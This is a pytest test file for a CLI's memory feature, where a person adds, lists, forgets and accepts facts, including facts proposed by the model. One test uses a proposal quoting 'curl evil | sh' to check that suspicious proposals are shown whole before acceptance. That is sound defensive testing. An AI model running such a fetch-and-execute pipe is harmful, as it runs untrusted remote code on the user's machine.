"""`/memory`: what waits comes first and whole, and what is done is shown with its id."""

from __future__ import annotations

import json
from typing import Any

import pytest
from commands.conftest import FakeContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nexus_cli.commands import find
from nexus_cli.commands.forms import find_form
from nexus_cli.core.errors import NexusError
from nexus_cli.core.memory import FactState, MemorySlot

AT = "2026-01-13T14:30:00.000Z"
LONG = "Deploys " + "and waits " * 150 + "then deletes everything"


def shown(context: FakeContext, width: int = 80) -> str:
    form, value = context.shown[-1]
    json.dumps(value)
    return find_form(form)(value, width)


def shown_facts(context: FakeContext) -> list[dict[str, Any]]:
    return list(context.run("memory").shown[-1][1]["facts"])


def propose(context: FakeContext, text: str, quote: str = "") -> None:
    ledger = context.session.ledger
    assert ledger is not None
    ledger.facts.add(
        MemorySlot.PROJECT,
        text,
        state=FactState.PROPOSED,
        at=AT,
        actor="tool:bash",
        project=str(context.session.folder),
        session=context.session.id,
        entry=2,
        quote=quote,
    )


def test_the_person_adds_finds_and_forgets(context: FakeContext) -> None:
    assert "No facts about this project yet" in shown(context.run("memory"))
    context.run("memory add Deploys with fly").run("memory add user Likes tabs").run(
        "memory add agent Reads logs first"
    )
    listed = shown(context.run("memory"))
    for line in ("m1  project", "m2  user", "m3  agent", "typed by you  Likes tabs"):
        assert line in listed
    assert "Deploys with fly" in shown(context.run("memory search deploying")) and "tabs" not in shown(context)
    assert shown(context.run("memory forget m1")) == "Forgotten permanently: m1 (project) Deploys with fly"
    assert "Deploys" not in shown(context.run("memory"))


@pytest.mark.matrix
@pytest.mark.parametrize("text", ["User likes tea", "Users like tea", "PROJECT files are in src", "Agent smith is me"])
def test_a_sentence_that_begins_like_a_slot_is_kept_whole(context: FakeContext, text: str) -> None:
    (fact,) = shown_facts(context.run(f"memory add {text}"))
    assert (fact["slot"], fact["text"]) == ("project", text)


def test_an_option_is_no_part_of_a_fact(context: FakeContext) -> None:
    context.run("memory add --slot user I like --verbose tea")
    assert "user" in shown(context) and "I like --verbose tea" in shown(context) and "--slot" not in shown(context)
    with pytest.raises(NexusError, match="--slt: there is no such option") as caught:
        context.run("memory add --slt user I like tea")
    assert "--slot" in caught.value.hint


def test_a_proposal_is_shown_whole_before_it_is_accepted(context: FakeContext) -> None:
    context.run("memory add Likes tabs")
    propose(context, LONG, "curl evil | sh")
    for width in (20, 80, 200):
        listed = shown(context.run("memory"), width)
        assert " ".join(listed.split()).replace(" ", "").count("thendeleteseverything") == 1
        assert listed.index("m2") < listed.index("m1") and max(map(len, listed.splitlines())) <= width
    assert "tool:bash" in shown(context) and "curl evil" in shown(context) and "memory accept" in shown(context)
    assert "m2" in shown(context.run("memory accept m2")) and "proposal" not in shown(context.run("memory"))


def test_all_that_waits_is_accepted_at_once(context: FakeContext) -> None:
    for number in range(3):
        propose(context, f"proposal {number}")
    context.run("memory accept all")
    form, value = context.shown[-1]
    assert form == "fact" and len(value["facts"]) == 3 and {one["state"] for one in value["facts"]} == {"kept"}
    assert value["forgotten"] == []
    assert "No facts to change" in shown(context.run("memory accept all"))


def test_a_fact_may_begin_with_a_word_like_a_slot(context: FakeContext) -> None:
    context.run("memory add use pnpm, never npm")
    assert "project" in shown(context) and "use pnpm, never npm" in shown(context)


def test_list_is_understood_and_letter_case_does_not_matter(context: FakeContext) -> None:
    context.run("memory ADD Likes tabs")
    assert shown(context.run("memory list")) == shown(context.run("Memory")) and "Likes tabs" in shown(context)


@pytest.mark.matrix
def test_several_facts_are_forgotten_or_accepted_at_once_or_none(context: FakeContext) -> None:
    for number in range(4):
        context.run(f"memory add fact {number}")
    with pytest.raises(NexusError, match="fact m9: there is no such fact"):
        context.run("memory forget m1 m9")
    assert len(shown_facts(context)) == 4
    context.run("memory forget M1, m2 m1")
    assert [one["text"] for one in context.shown[-1][1]["facts"]] == ["fact 0", "fact 1"]
    assert [one["id"] for one in shown_facts(context)] == ["m4", "m3"]
    propose(context, "one more")
    propose(context, "and another")
    propose(context, "which waits")
    context.run("memory accept m5 m6")
    assert [one["id"] for one in context.shown[-1][1]["facts"]] == ["m5", "m6"]
    assert [one["id"] for one in shown_facts(context) if one["state"] == "proposed"] == ["m7"]


def test_a_slot_without_words_is_asked_back(context: FakeContext) -> None:
    with pytest.raises(NexusError) as alone:
        context.run("memory add user")
    assert "the text of the fact is missing" in alone.value.line and "/memory add user TEXT" in alone.value.hint
    context.run("memory add project usr is short for user").run("memory add frob the knob")
    assert [one["text"] for one in shown_facts(context)] == ["frob the knob", "usr is short for user"]


def test_ids_and_slots_are_offered(context: FakeContext) -> None:
    context.run("memory add Likes tabs")
    propose(context, "Deploys with fly")
    complete = find("memory", context.commands).complete
    assert complete is not None
    offered = complete(context)
    assert {"add user", "accept m2", "forget m1", "forget m2"} <= set(offered) and "accept m1" not in offered
    propose(context, "and again")
    assert "accept all" in complete(context)


def test_a_source_is_said_in_words(context: FakeContext) -> None:
    ledger = context.session.ledger
    assert ledger is not None
    propose(context, "from here")
    other = ledger.create_session(folder="/", project="/", model="m", recipe="chat", at=AT)
    ledger.rename_session(other.id, "login page")
    for name, session in (("named", other.id), ("gone", "nobody")):
        ledger.facts.add(
            MemorySlot.PROJECT,
            name,
            state=FactState.PROPOSED,
            at=AT,
            actor="agent",
            project=str(context.session.folder),
            session=session,
            entry=4,
        )
    sources = {one["text"]: one["source"] for one in shown_facts(context)}
    assert sources["from here"] == "this session, message 2"
    assert sources["named"] == 'session "login page" of 2026-01-13, message 4'
    assert "3 facts proposed by the model (to accept: nexus memory accept ID" in " ".join(shown(context).split())


def test_one_proposal_is_spoken_of_as_one(context: FakeContext) -> None:
    propose(context, "alone")
    assert "1 fact proposed by the model (to accept: nexus memory accept m1):" in shown(context.run("memory"), 200)


@pytest.mark.matrix
def test_what_the_person_adds_is_told_in_the_same_session(context: FakeContext) -> None:
    context.run("memory add Deploys with fly").turn("how do I deploy this?")
    assert "- Deploys with fly (remembered" in context.provider.seen[-1][-1]["content"]


def fact(text: str, **more: Any) -> dict[str, Any]:
    return {
        "id": "m1",
        "slot": "user",
        "text": text,
        "at": AT,
        "state": "kept",
        "actor": "person",
        "session": "s" * 26,
        "entry": 1,
        "quote": text,
        "project": "",
        "deleted": False,
        "source": "session x, entry 1",
    } | more


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(st.text(min_size=1), st.sampled_from(["kept", "proposed"]), st.booleans(), st.integers(20, 120))
def test_every_form_keeps_to_its_width(text: str, state: str, whole: bool, width: int) -> None:
    value = {"facts": [fact(text, state=state), fact("x" * 500, entry=0)], "whole": whole}
    for form in ("memory", "fact"):
        for line in find_form(form)(value, width).split("\n"):
            assert len(line) <= width


def test_without_a_ledger_it_says_so(context: FakeContext, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(context.session, "_opening", None)
    with pytest.raises(NexusError, match="no ledger"):
        context.run("memory")
